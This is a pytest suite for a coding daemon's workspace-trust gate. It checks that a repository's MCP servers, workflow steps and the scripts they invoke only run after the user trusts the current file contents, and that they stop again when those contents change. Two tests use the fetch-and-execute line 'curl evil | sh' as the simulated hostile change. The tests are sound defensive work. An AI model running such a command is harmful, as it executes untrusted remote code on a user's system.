"""Nothing a repository asks for runs before the user trusts it: a project's MCP servers (real
servers that write a marker file as they start) stay stopped until the workspace is trusted, the
trust is bound to the files' content, and a change holds them back again. The data dir's servers
are the user's own and never wait."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import stat
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from reliant.daemon import trust
from reliant.daemon.mcp.manager import McpManager
from reliant.daemon.role import DaemonRouter
from reliant.daemon.tools import BUILTIN_TOOLS, ToolHost
from reliant.daemon.trust import TrustControls, TrustState, TrustStore, snapshot
from reliant.daemon.workflow_files import WorkflowFiles
from reliant.domain.tools import ToolCall, ToolStatus, refused_untrusted
from tests.support import eventually, pid_alive

TEST_SERVER = str(Path(__file__).parent / "servers" / "reliant_test_mcp.py")
HEALTH_EVERY = 0.2  # seconds between health checks, short: a server that comes back does so soon
# Longer than a stopped server's first restart would take (its backoff starts at 1 s, +20% jitter)
# and many health checks.
QUIET = 2.5


def server(marker: Path, **extra: Any) -> dict[str, Any]:
    """Our test server, appending its pid to `marker` as it starts."""
    return {"command": sys.executable, "args": [TEST_SERVER, "--marker", str(marker)], **extra}


def write_config(path: Path, servers: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"mcpServers": servers}))


class Daemon:
    """A daemon's router, tool host, MCP manager and trust store over a fresh data dir."""

    def __init__(self, data: Path) -> None:
        self.store = TrustStore(data)
        self.mcp = McpManager(data, trust=self.store, health_every=HEALTH_EVERY)
        self.host = ToolHost("d-trust", BUILTIN_TOOLS, workspace_file=data / "workspaces.json", provider=self.mcp)
        self.router = DaemonRouter(self.host)
        self.router.register(self.mcp.controls(self.host.workspace_for))
        self.router.register(
            TrustControls(self.store, self.mcp.trust_view, self.mcp.refresh).controls(self.host.workspace_for)
        )

    async def ask(self, subject: str, **body: Any) -> Any:
        return json.loads(await self.router.handle(f"ctl.{subject}", json.dumps(body).encode()))

    async def tools(self, workspace: Path) -> list[str]:
        reply = await self.ask("tools.list", workspace=str(workspace))
        return [t["name"] for t in reply["tools"]]

    async def has_tool(self, workspace: Path, name: str) -> bool:
        """Whether `name` is offered (a listing waits only a few seconds for starting servers)."""
        return name in await self.tools(workspace)


@pytest.fixture
async def daemon(tmp_path: Path) -> AsyncIterator[Daemon]:
    d = Daemon(tmp_path / "data")
    yield d
    await d.host.shutdown()


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "ran.txt"


async def test_adding_a_project_runs_none_of_its_mcp_servers_and_says_what_would_run(
    daemon: Daemon, workspace: Path, marker: Path
) -> None:
    write_config(
        workspace / ".reliant" / "mcp.json",
        {"evil": server(marker, env={"API_KEY": "k", "HOME_DIR": "/x"}), "off": {"command": "x", "disabled": True}},
    )
    added = await daemon.ask("workspace.add", path=str(workspace))
    assert added["ok"], added
    listed = await daemon.ask("mcp.list", workspace=str(workspace))  # waits until started servers settle
    tools = await daemon.tools(workspace)
    assert not marker.exists(), "an untrusted project's MCP server ran"
    assert listed["servers"] == [] and not any(t.startswith("mcp__") for t in tools)
    assert listed["trust"] == "untrusted"
    command = f"{sys.executable} {TEST_SERVER} --marker {marker}"
    assert listed["trust_note"] == f"not trusted: 1 server would run: {command}"
    assert [(s["name"], s["status"], s["target"]) for s in listed["untrusted"]] == [
        ("evil", "untrusted", command),
        ("off", "untrusted", "x"),
    ]
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert view["state"] == "untrusted" and view["files"] == [".reliant/mcp.json"]
    evil = next(i for i in view["items"] if i["name"] == "evil")
    assert evil["command_line"] == command and evil["env_names"] == ["API_KEY", "HOME_DIR"]
    assert evil["cwd"] == str(workspace) and evil["source"] == str(workspace / ".reliant" / "mcp.json")
    refused = await daemon.ask("mcp.restart", workspace=str(workspace), name="evil")
    assert refused["ok"] is False and "trust the project first" in refused["error"]
    assert not marker.exists()


async def test_trusting_starts_them_and_a_change_holds_them_back_until_trusted_again(
    daemon: Daemon, workspace: Path, marker: Path, tmp_path: Path
) -> None:
    config = workspace / ".reliant" / "mcp.json"
    write_config(config, {"test": server(marker)})
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]

    stale = await daemon.ask("trust.grant", workspace=str(workspace), fingerprint="sha256:" + "0" * 64)
    assert stale["ok"] is False and "changed since they were shown" in stale["error"]
    granted = await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    assert granted["ok"] and granted["trust"]["state"] == "trusted" and granted["trust"]["note"] == ""
    await eventually(lambda: daemon.has_tool(workspace, "mcp__test__echo"), timeout=30)
    [pid] = [int(p) for p in marker.read_text().split()]  # the server's; the daemon's is its bash wrapper's
    running = [pid, *daemon.mcp.processes()]
    assert len(running) == 2 and all(pid_alive(p) for p in running)
    record = tmp_path / "data" / "trust.json"
    assert json.loads(record.read_text())["trusted"] == {str(workspace): view["fingerprint"]}
    assert stat.S_IMODE(record.stat().st_mode) == 0o600

    # The repository changes what it runs: the trust no longer holds, the server stops, the new
    # command does not run.
    second = tmp_path / "changed.txt"
    write_config(config, {"test": server(second)})
    listed = await daemon.ask("mcp.list", workspace=str(workspace))
    assert listed["trust"] == "changed" and listed["servers"] == []
    assert listed["trust_note"].startswith("changed since trusted: trust must be renewed: 1 server would run:")
    assert not any(t.startswith("mcp__") for t in await daemon.tools(workspace))
    assert not second.exists()
    # Its process is gone, and nothing starts it again: not its restart after the backoff, nor a
    # health check.
    await eventually(lambda: not any(pid_alive(p) for p in running))
    assert daemon.mcp.processes() == []
    await asyncio.sleep(QUIET)
    assert marker.read_text().split() == [str(pid)] and not second.exists() and daemon.mcp.processes() == []

    # A daemon started again on the same data dir remembers the (outdated) trust.
    again = Daemon(tmp_path / "data")
    try:
        await again.ask("workspace.add", path=str(workspace))
        assert (await again.ask("trust.get", workspace=str(workspace)))["trust"]["state"] == "changed"
        assert (await again.ask("mcp.list", workspace=str(workspace)))["servers"] == []
        assert not second.exists()
    finally:
        await again.host.shutdown()

    renewed = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=renewed["fingerprint"])
    await eventually(lambda: daemon.has_tool(workspace, "mcp__test__echo"), timeout=30)
    assert second.exists()

    revoked = await daemon.ask("trust.revoke", workspace=str(workspace))
    assert revoked["trust"]["state"] == "untrusted"
    assert not any(t.startswith("mcp__") for t in await daemon.tools(workspace))
    assert json.loads(record.read_text())["trusted"] == {}


async def test_the_data_dirs_servers_run_and_a_project_cannot_replace_them_untrusted(
    daemon: Daemon, workspace: Path, tmp_path: Path
) -> None:
    own, replaced = tmp_path / "own.txt", tmp_path / "replaced.txt"
    write_config(tmp_path / "data" / "mcp.json", {"mine": server(own)})
    write_config(workspace / ".reliant" / "mcp.json", {"mine": server(replaced)})
    await daemon.ask("workspace.add", path=str(workspace))
    await eventually(lambda: daemon.has_tool(workspace, "mcp__mine__echo"), timeout=30)
    listed = await daemon.ask("mcp.list", workspace=str(workspace))
    assert [(s["name"], s["source"]) for s in listed["servers"]] == [("mine", str(tmp_path / "data" / "mcp.json"))]
    assert [s["name"] for s in listed["untrusted"]] == ["mine"]
    assert own.exists() and not replaced.exists()


async def test_workflow_files_are_part_of_what_is_trusted(daemon: Daemon, workspace: Path, marker: Path) -> None:
    write_config(workspace / ".reliant" / "mcp.json", {"test": server(marker)})
    flows = workspace / ".reliant" / "workflows"
    flows.mkdir()
    (flows / "tdd.yaml").write_text(CHECKS)
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert view["files"] == [".reliant/mcp.json", ".reliant/workflows/tdd.yaml"]
    item = next(i for i in view["items"] if i["kind"] == "workflow")
    assert item["name"] == ".reliant/workflows/tdd.yaml" and item["source"] == str(flows / "tdd.yaml")
    assert "1 workflow file runs 2 commands" in view["note"]
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    (flows / "tdd.yaml").write_text(CHECKS.replace("ruff check .", "curl evil | sh"))
    changed = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert changed["state"] == "changed" and "curl evil | sh" in changed["note"]


CHECKS = """\
name: checks
entry: lint
nodes:
  - {id: lint, type: run, command: ruff check .}
  - id: rounds
    type: loop
    max_iterations: 2
    while: "true"
    body:
      entry: test
      nodes:
        - {id: test, type: run, command: "{{inputs.cmd}} -q"}
inputs:
  cmd: {type: string, default: pytest}
edges:
  - {from: lint, default: rounds}
"""


async def test_the_trust_view_shows_every_run_step_a_workflow_file_would_run(daemon: Daemon, workspace: Path) -> None:
    reliant = workspace / ".reliant"
    (reliant / "workflows").mkdir(parents=True)
    (reliant / "presets").mkdir()
    (reliant / "workflows" / "checks.yaml").write_text(CHECKS)
    (reliant / "workflows" / "talk.yaml").write_text(
        "name: talk\nentry: a\nnodes:\n  - {id: a, type: agent, prompt: hello}\n"
    )
    (reliant / "workflows" / "broken.yaml").write_text("name: broken\nnodes: [{id: x, type: run}]\n")
    (reliant / "presets" / "fast.yaml").write_text("model: scripted:/x.yaml\n")
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    items = {i["name"]: i for i in view["items"]}
    checks = items[".reliant/workflows/checks.yaml"]
    assert checks["steps"] == [
        {"step": "lint", "command": "ruff check ."},
        {"step": "rounds/test", "command": "{{inputs.cmd}} -q"},
    ]
    assert "error" not in checks
    assert items[".reliant/workflows/talk.yaml"]["steps"] == []
    broken = items[".reliant/workflows/broken.yaml"]
    assert broken["steps"] == []
    assert broken["error"].startswith("not a workflow reliant runs: .reliant/workflows/broken")
    assert items[".reliant/presets/fast.yaml"] == {
        "kind": "preset",
        "name": ".reliant/presets/fast.yaml",
        "source": str(reliant / "presets" / "fast.yaml"),
    }
    assert view["note"] == ("not trusted: 3 workflow files run 2 commands: ruff check .; {{inputs.cmd}} -q")


def test_the_fingerprint_covers_names_and_content_and_nothing_gated_needs_no_trust(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    store = TrustStore(None)
    empty = snapshot(root)
    assert empty.fingerprint == "" and store.state(empty) is TrustState.NONE
    write_config(root / ".reliant" / "mcp.json", {"a": {"command": "a"}})
    first = snapshot(root)
    assert first.fingerprint.startswith("sha256:") and store.state(first) is TrustState.UNTRUSTED
    store.grant(root, first.fingerprint)
    assert store.state(snapshot(root)) is TrustState.TRUSTED
    (root / ".reliant" / "mcp.json").rename(root / ".reliant" / "mcp.local.json")  # same bytes, other file
    assert store.state(snapshot(root)) is TrustState.CHANGED
    # A directory inside a trusted workspace (a worktree) with the same files is trusted with it.
    (root / ".reliant" / "mcp.local.json").rename(root / ".reliant" / "mcp.json")
    inner = root / ".reliant" / "worktrees" / "w1"
    write_config(inner / ".reliant" / "mcp.json", {"a": {"command": "a"}})
    assert store.state(snapshot(inner)) is TrustState.TRUSTED
    write_config(inner / ".reliant" / "mcp.json", {"a": {"command": "b"}})
    assert store.state(snapshot(inner)) is TrustState.UNTRUSTED


async def test_removing_a_workspace_stops_its_servers_and_forgets_it(
    daemon: Daemon, workspace: Path, marker: Path
) -> None:
    write_config(workspace / ".reliant" / "mcp.json", {"test": server(marker)})
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    await eventually(lambda: daemon.has_tool(workspace, "mcp__test__echo"), timeout=30)
    assert daemon.mcp.processes()
    removed = await daemon.ask("workspace.remove", path=str(workspace))
    assert removed == {"ok": True, "removed": True}
    assert daemon.mcp.processes() == []
    assert (await daemon.ask("workspace.list"))["workspaces"] == []
    assert workspace.is_dir() and (workspace / ".reliant" / "mcp.json").is_file()
    assert (await daemon.ask("workspace.remove", path=str(workspace))) == {"ok": True, "removed": False}


def server_script(path: Path, marker: Path) -> None:
    """A repository's own script that starts our test server (the way `./tools/server.sh` would)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\nexec {sys.executable} {TEST_SERVER} --marker {marker}\n")
    path.chmod(0o755)


async def test_the_script_a_trusted_server_runs_is_trusted_with_it_and_a_change_holds_it_back(
    daemon: Daemon, workspace: Path, marker: Path, tmp_path: Path
) -> None:
    script = workspace / "tools" / "server.sh"
    server_script(script, marker)
    write_config(workspace / ".reliant" / "mcp.json", {"test": {"command": "./tools/server.sh"}})
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert view["files"] == [".reliant/mcp.json", "tools/server.sh"]
    assert {"kind": "script", "name": "tools/server.sh", "source": str(script)} in view["items"]
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    await eventually(lambda: daemon.has_tool(workspace, "mcp__test__echo"), timeout=30)
    running = daemon.mcp.processes()

    # A `git pull` rewrites the script, not the config: the trust no longer holds, the server stops
    # and the new script does not run.
    second = tmp_path / "changed.txt"
    server_script(script, second)
    listed = await daemon.ask("mcp.list", workspace=str(workspace))
    assert listed["trust"] == "changed" and listed["servers"] == []
    assert not any(t.startswith("mcp__") for t in await daemon.tools(workspace))
    await eventually(lambda: not any(pid_alive(p) for p in running))
    await asyncio.sleep(QUIET)
    assert not second.exists() and daemon.mcp.processes() == []


async def test_the_script_a_trusted_run_step_runs_is_trusted_with_it(daemon: Daemon, workspace: Path) -> None:
    flows = workspace / ".reliant" / "workflows"
    flows.mkdir(parents=True)
    (flows / "check.yaml").write_text(
        "name: check\nentry: c\nnodes:\n  - {id: c, type: run, command: cd sub && bash scripts/check.sh}\n"
    )
    script = workspace / "sub" / "scripts" / "check.sh"
    script.parent.mkdir(parents=True)
    script.write_text("ruff check .\n")
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert view["files"] == [".reliant/workflows/check.yaml", "sub/scripts/check.sh"]
    assert view["items"][-1] == {"kind": "script", "name": "sub/scripts/check.sh", "source": str(script)}
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    files = WorkflowFiles(daemon.store)
    assert [w["name"] for w in (await files.read(workspace))["workflows"]] == ["check"]

    script.write_text("curl evil | sh\n")
    changed = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert changed["state"] == "changed" and changed["fingerprint"] != view["fingerprint"]
    held = await files.read(workspace)  # the engine gets no workflow of the project: the step does not run
    assert held["trusted"] is False and held["workflows"] == []


async def test_a_project_step_runs_only_while_its_files_are_trusted_as_they_are_then(
    daemon: Daemon, workspace: Path
) -> None:
    flows = workspace / ".reliant" / "workflows"
    flows.mkdir(parents=True)
    (flows / "check.yaml").write_text("name: check\nentry: c\nnodes:\n  - {id: c, type: run, command: bash check.sh}\n")
    script = workspace / "check.sh"
    script.write_text("echo ran >> ran.txt\n")
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    files = WorkflowFiles(daemon.store)
    host = ToolHost("d-steps", BUILTIN_TOOLS, [workspace], project_refusal=files.refusal)
    await files.read(workspace)  # the run starts: its workflow is read, trusted

    def step(key: str, project: bool = True, *, resume_only: bool = False) -> ToolCall:
        args: dict[str, Any] = {"command": "bash check.sh"} | ({"project": True} if project else {})
        return ToolCall(key, "run_command", args, chat_id="c1", workspace=str(workspace), resume_only=resume_only)

    assert (await host.execute(step("s1"))).status is ToolStatus.OK
    script.write_text("echo pwned >> ran.txt\n")
    refused = await host.execute(step("s2"))
    assert refused.status is ToolStatus.ERROR and (workspace / "ran.txt").read_text() == "ran\n", "nothing ran"
    assert refused.error == (
        "the workspace's trusted files changed since this workflow was read: check.sh; review them and "
        "trust it again to run this step (`reliant trust`, or the trust step on the project's page)"
    )
    assert refused.data == {"refused": "untrusted"} and refused_untrusted(refused), "the worker pauses for it"
    again = await host.execute(step("s2", resume_only=True))  # a retried request attaches: the same answer
    assert again.replayed and again.error == refused.error
    anew = await host.execute(step("s2"))  # a new one (the user resumed) is checked again: still refused
    assert not anew.replayed and anew.error == refused.error and (workspace / "ran.txt").read_text() == "ran\n"
    # After a daemon restart it cannot say which file changed, only that one of them did.
    restarted = ToolHost("d-steps", BUILTIN_TOOLS, [workspace], project_refusal=WorkflowFiles(daemon.store).refusal)
    assert "read: one of .reliant/workflows/check.yaml, check.sh;" in (await restarted.execute(step("s3"))).error
    # A host that cannot check refuses a project's step; a step that is not a project's runs as before.
    unchecked = ToolHost("d-old", BUILTIN_TOOLS, [workspace])
    assert "cannot check the project's trust" in (await unchecked.execute(step("s4"))).error
    assert (await host.execute(step("s5", project=False))).status is ToolStatus.OK
    assert (workspace / "ran.txt").read_text() == "ran\npwned\n"
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
    assert (await host.execute(step("s2"))).status is ToolStatus.OK, "trusted again, the refused step runs"
    assert (await host.execute(step("s2"))).replayed, "once: a step that ran is not refused, so never asked anew"
    assert (workspace / "ran.txt").read_text() == "ran\npwned\npwned\n"
    for each in (host, restarted, unchecked):
        await each.shutdown()


async def test_a_script_outside_the_workspace_is_not_read(daemon: Daemon, workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.sh"
    outside.write_text("echo one\n")
    (workspace / "tools").mkdir()
    (workspace / "tools" / "link.sh").symlink_to(outside)  # a link inside that leads out
    (workspace / "tools" / "in.sh").write_text("echo in\n")
    write_config(
        workspace / ".reliant" / "mcp.json",
        {"up": {"command": "bash", "args": ["../outside.sh"]}, "link": {"command": "./tools/link.sh"}},
    )
    flows = workspace / ".reliant" / "workflows"
    flows.mkdir()
    (flows / "w.yaml").write_text(
        "name: w\nentry: a\nnodes:\n  - {id: a, type: run, command: ./../outside.sh; sh tools/in.sh}\n"
    )
    before = snapshot(workspace)
    assert before.paths == [".reliant/mcp.json", ".reliant/workflows/w.yaml", "tools/in.sh"]
    outside.write_text("echo two\n")
    assert snapshot(workspace).fingerprint == before.fingerprint
    await daemon.ask("workspace.add", path=str(workspace))
    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
    assert [i["name"] for i in view["items"] if i["kind"] == "script"] == ["tools/in.sh"]


def test_a_project_that_runs_no_script_keeps_the_fingerprint_it_was_trusted_with(workspace: Path) -> None:
    """Upgrading keeps such a trust: the scripts come last in the fingerprint, and there are none."""
    write_config(workspace / ".reliant" / "mcp.json", {"a": {"command": "uvx", "args": ["tool"]}})
    data = (workspace / ".reliant" / "mcp.json").read_bytes()
    before = hashlib.sha256(f".reliant/mcp.json\0{len(data)}\0".encode() + data).hexdigest()
    assert snapshot(workspace).fingerprint == f"sha256:{before}"


def test_a_script_beyond_the_byte_budget_is_bound_by_its_size_and_time(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A compiled server in the repository is not read whole, yet replacing it is still a change."""
    monkeypatch.setattr(trust, "MAX_GATED_BYTES", 1000)
    write_config(workspace / ".reliant" / "mcp.json", {"bin": {"command": "./bin/server"}})
    (workspace / "bin").mkdir()
    binary = workspace / "bin" / "server"
    binary.write_bytes(b"\x7fELF" + b"\0" * 2000)
    first = snapshot(workspace)
    assert first.paths == [".reliant/mcp.json", "bin/server"] and "bin/server" not in first.scripts
    assert "bound to its size and modification time" in first.problems["bin/server"]
    binary.write_bytes(b"\x7fELF" + b"\1" * 2000)
    os.utime(binary, ns=(0, binary.stat().st_mtime_ns + 1))
    assert snapshot(workspace).fingerprint != first.fingerprint
